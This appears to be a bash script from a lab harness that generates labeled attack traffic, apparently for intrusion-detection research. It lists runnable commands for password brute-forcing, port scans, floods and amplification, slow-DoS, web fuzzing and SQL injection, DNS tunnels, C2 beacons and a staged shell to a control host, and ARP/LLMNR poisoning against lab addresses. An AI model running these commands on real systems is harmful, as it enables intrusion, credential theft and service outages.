# What the first laboratory did not record. Sourced by ../branch.sh; `tool` and `on` are those of ../attacks.sh.
# shellcheck shell=bash disable=SC2034

ADDRESS=([bad]=192.0.2.150 [bad2]=192.0.2.161 [desk]=172.29.13.101 [desk2]=172.29.13.102 [rogue]=172.29.13.200)
WWW=172.29.12.20 BASTION=172.29.12.22 STORE=172.29.12.31 MASTER=192.0.2.222
ROGUE_MAC=02:00:5e:00:0b:c8
branch_tool() { python3 "$LAB_HOME/branch/attacks.py" "$@"; }
own() { on "$1" python3 "$LAB_HOME/branch/attacks.py" "${@:2}"; }

# tool NAME CLASS HOST VICTIM [ATTACKER|- [INTERFACE [LENGTH]]]; recorded outside unless said.
out() { tool "$1" "$2" "$3" "$4" "${5:-}" br-out "${6:-0}"; }
in_() { tool "$1" "$2" "$3" "$4" "${5:-}" br-in "${6:-0}"; }

out guess_mysql brute-force bad $STORE; guess_mysql() { on 25 hydra -I -t 4 -l admin -P "$(words 70)" mysql://$STORE; }
out guess_postgres brute-force bad $STORE; guess_postgres() { on 25 medusa -h $STORE -u postgres -P "$(words 50)" -M postgres -t 3; }
out guess_redis brute-force bad2 $STORE; guess_redis() { on 25 hydra -I -t 3 -P "$(words 60)" redis://$STORE; }
out guess_smb brute-force bad $STORE; guess_smb() { on 25 medusa -h $STORE -u admin -P "$(words 40)" -M smbnt -t 2; }
out guess_vnc brute-force bad $STORE; guess_vnc() { on 25 hydra -I -t 2 -P "$(words 40)" vnc://$STORE; }
out guess_ldap brute-force bad2 $STORE; guess_ldap() { on 25 hydra -I -t 4 -l 'cn=admin,dc=branch' -P "$(words 60)" ldap2://$STORE; }
out guess_mssql brute-force bad $STORE; guess_mssql() { on 25 hydra -I -t 4 -l sa -P "$(words 60)" mssql://$STORE; }
out guess_rdp brute-force bad $STORE; guess_rdp() { on 30 ncrack -T4 --user administrator -P "$(words 30)" rdp://$STORE; }
out guess_telnet brute-force bad2 $STORE; guess_telnet() { on 40 bash -c 'for i in $(seq 24); do (exec 3<>/dev/tcp/172.29.12.31/23; sleep 0.1; printf "root\r\n" >&3; sleep 0.2; printf "word$i\r\n" >&3; timeout 3 head -c 60 <&3 >/dev/null) & [ $((i % 3)) != 0 ] || wait; done; wait'; }
in_ spray_kerberos brute-force desk $STORE; spray_kerberos() { own 25 kerberos $STORE 60 0.2; }
out ncrack_ftp brute-force bad $STORE; ncrack_ftp() { on 30 ncrack -T4 --user ftp -P "$(words 40)" ftp://$STORE; }
out nmap_imap brute-force bad2 $STORE; nmap_imap() { on 30 nmap -n -Pn -p 143 --script imap-brute --script-args "userdb=$(printf 'ann\nbob\n' >"$LAB_DIR/users"; echo "$LAB_DIR/users"),passdb=$(words 30)" $STORE; }
out nmap_mysql brute-force bad $STORE; nmap_mysql() { on 30 nmap -n -Pn -p 3306 --script mysql-brute --script-args "userdb=$(printf 'root\nadmin\n' >"$LAB_DIR/users2"; echo "$LAB_DIR/users2"),passdb=$(words 30)" $STORE; }
out patator_basic brute-force bad2 $WWW; patator_basic() { on 40 patator http_fuzz url=http://$WWW/login auth_type=basic user_pass=admin:FILE0 "0=$(words 60)" timeout=5 -t 3; }
out guess_ssh_slow brute-force bad $BASTION; guess_ssh_slow() { on 80 bash -c 'while read -r w; do sshpass -p "$w" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -o ConnectTimeout=5 deploy@172.29.12.22 true; sleep 1.5; done <"$0"' "$(words 40)"; }

out scan_rust port-scan bad $WWW; scan_rust() { own 25 scan_ports $WWW 1 2500 400; }
out scan_sctp port-scan bad $WWW; scan_sctp() { on 25 nmap -n -Pn -sY -T4 -p 1-120 --max-retries 0 $WWW; }
out scan_sctp_cookie port-scan bad2 $WWW; scan_sctp_cookie() { on 25 nmap -n -Pn -sZ -T4 -p 1-120 --max-retries 0 $WWW; }
out scan_masscan port-scan bad $BASTION; scan_masscan() { on 25 masscan --rate 700 --wait 2 -p1-4000 $BASTION --interface eth0 --router-ip 192.0.2.1; }
# An idle scan as its victim sees it: SYNs in the name of a quiet host, in pairs with nothing after them.
out scan_idle port-scan bad $WWW 192.0.2.35; scan_idle() { on 25 hping3 -q -S -a 192.0.2.35 -p ++20 -c 300 -i u40000 $WWW; }
out sweep_zmap host-sweep bad2 172.29.12.0/23; sweep_zmap() { on 25 zmap -p 3389 -r 90 -G 02:00:5e:00:0a:01 -c 2 -i eth0 -B 1M -o /dev/null --blacklist-file=/dev/null 172.29.12.0/23; }
out sweep_masscan host-sweep bad 172.29.12.0/23; sweep_masscan() { on 25 masscan --rate 250 --wait 2 -p22,6379 172.29.12.0/23 --interface eth0 --router-ip 192.0.2.1; }
in_ sweep_inside host-sweep desk2 172.29.12.0/23; sweep_inside() { on 30 nmap -n -Pn -sT -T4 --max-retries 0 -p 445 --max-rate 60 172.29.12.1-254; }

out flood_gre dos-flood bad $WWW; flood_gre() { own 15 protocol_flood $WWW 47 1500 6; }
out flood_esp dos-flood bad $WWW; flood_esp() { own 15 protocol_flood $WWW 50 1500 6; }
out flood_reset dos-flood bad2 $WWW; flood_reset() { own 20 rapid_reset $WWW 8443 2000 8; }
out flood_goldeneye dos-flood bad $WWW; flood_goldeneye() { own 20 request_flood $WWW 80 40 8; }
out flood_h2load dos-flood bad2 $WWW; flood_h2load() { on 20 h2load -n 40000 -c 20 -m 30 -D 6 https://$WWW:8443/; }
out flood_syn_forged dos-flood bad $WWW -; flood_syn_forged() { on 10 hping3 -q -S --rand-source -p 8443 -c 9000 -i u400 $WWW; }
out flood_fpu dos-flood bad $BASTION; flood_fpu() { on 10 hping3 -q -F -P -U -p 22 -c 9000 -i u500 $BASTION; }
out flood_udp_full dos-flood bad2 $STORE; flood_udp_full() { on 5 hping3 -q --udp --flood -d 900 -p 161 $STORE; }
out flood_syn_full dos-flood bad $WWW; flood_syn_full() { on 4 hping3 -q -S --flood -p 80 $WWW; }
out flood_icmp_full dos-flood bad2 $BASTION; flood_icmp_full() { on 4 hping3 -q --icmp --flood $BASTION; }
out amplify_ntp dos-flood bad $WWW -; amplify_ntp() { on 15 python3 "$LAB_HOME/tools/reflect.py" $WWW 123 900 6; }
out amplify_ssdp dos-flood bad $BASTION -; amplify_ssdp() { on 15 python3 "$LAB_HOME/tools/reflect.py" $BASTION 1900 350 6; }
out amplify_memcached dos-flood bad $STORE -; amplify_memcached() { on 15 python3 "$LAB_HOME/tools/reflect.py" $STORE 11211 500 6; }
out slow_rudy slow-dos bad $WWW; slow_rudy() { own 45 rudy $WWW 80 60 38; }
out slow_loris slow-dos bad2 $WWW; slow_loris() { on 45 python3 "$LAB_HOME/tools/slowloris.py" $WWW 80 45 40; }
out slow_read_tls slow-dos bad $WWW; slow_read_tls() { (cd "$LAB_DIR" && on 40 slowhttptest -X -c 60 -r 15 -w 8 -y 16 -n 6 -z 24 -k 2 -l 32 -p 3 -u https://$WWW/static/catalogue.csv); }

out dirs_ffuf web-attack bad $WWW; dirs_ffuf() { on 25 ffuf -s -p 0.1 -t 4 -u http://$WWW/FUZZ -w "$(paths 300)"; }
out dirs_gobuster_tls web-attack bad2 $WWW; dirs_gobuster_tls() { on 25 gobuster dir -q -z -k -t 4 -u https://$WWW -w "$(paths 350)"; }
out dirs_wfuzz web-attack bad $WWW; dirs_wfuzz() { on 25 wfuzz --hc 404 -t 3 -w "$(paths 150)" "http://$WWW/FUZZ"; }
out dirs_dirb web-attack bad2 $WWW; dirs_dirb() { on 25 dirb http://$WWW/ "$(paths 200)" -S -r -z 40; }
out inject_sqlmap web-attack bad $WWW; inject_sqlmap() { (cd "$LAB_DIR" && HOME=$LAB_DIR on 30 sqlmap --batch --disable-coloring --level 2 --timeout 5 -u "http://$WWW/item?id=7&sort=price"); }
out ranges_apache slow-dos bad2 $WWW; ranges_apache() { (cd "$LAB_DIR" && on 20 slowhttptest -R -c 40 -r 20 -a 10 -b 900 -u http://$WWW/); }

in_ tunnel_iodine dns-tunnel desk 192.0.2.222; tunnel_iodine() { branch_iodine 25; }
in_ tunnel_dnscat dns-tunnel desk2 192.0.2.220 172.29.13.102; tunnel_dnscat() { own 45 dns_shell 192.0.2.220 40; }
in_ tunnel_ptunnel dns-tunnel desk 192.0.2.222; tunnel_ptunnel() { branch_ptunnel; }
in_ beacon_http_0 c2-beacon desk $MASTER; beacon_http_0() { own 90 beacon http $MASTER 8000 5 0 80; }
in_ beacon_http_30 c2-beacon desk2 $MASTER; beacon_http_30() { own 110 beacon http $MASTER 8000 5 30 100; }
in_ beacon_https_60 c2-beacon desk $MASTER; beacon_https_60() { own 130 beacon https $MASTER 8443 4 60 120; }
in_ beacon_https_90 c2-beacon desk2 $MASTER; beacon_https_90() { own 130 beacon https $MASTER 8443 4 90 120; }
in_ beacon_dns_20 c2-beacon desk 192.0.2.222; beacon_dns_20() { own 130 beacon dns 192.0.2.222 53 5 20 120; }
in_ shell_staged c2-beacon desk $MASTER; shell_staged() { own 45 staged_shell $MASTER 4455 35; }

in_ arp_ettercap arp-spoof rogue 172.29.13.101 $ROGUE_MAC; arp_ettercap() { on 20 ettercap -T -q -o -i eth0 -M arp:remote /172.29.13.101// /172.29.12.1//; }
in_ arp_bettercap arp-spoof rogue 172.29.13.101 $ROGUE_MAC; arp_bettercap() { on 5 ping -q -c 2 172.29.12.1; on 5 ping -q -c 2 172.29.13.101; on 25 bettercap -no-colors -iface eth0 -gateway-override 172.29.12.1 -eval "net.recon on; sleep 2; set arp.spoof.targets 172.29.13.101; arp.spoof on; sleep 15; quit"; }
in_ router_mitm6 arp-spoof rogue '' $ROGUE_MAC; router_mitm6() { own 40 fake_router6 eth0 10 3; }
in_ llmnr_poison arp-spoof rogue '' 172.29.13.200; llmnr_poison() { ns_start desk2 python3 "$LAB_HOME/branch/attacks.py" ask_link 22; on 30 python3 "$LAB_HOME/branch/attacks.py" poison eth0 25 172.29.13.200; }
in_ dhcp_starvation dos-flood rogue 255.255.255.255 -; dhcp_starvation() { own 20 dhcp_starve eth0 1500 120; }
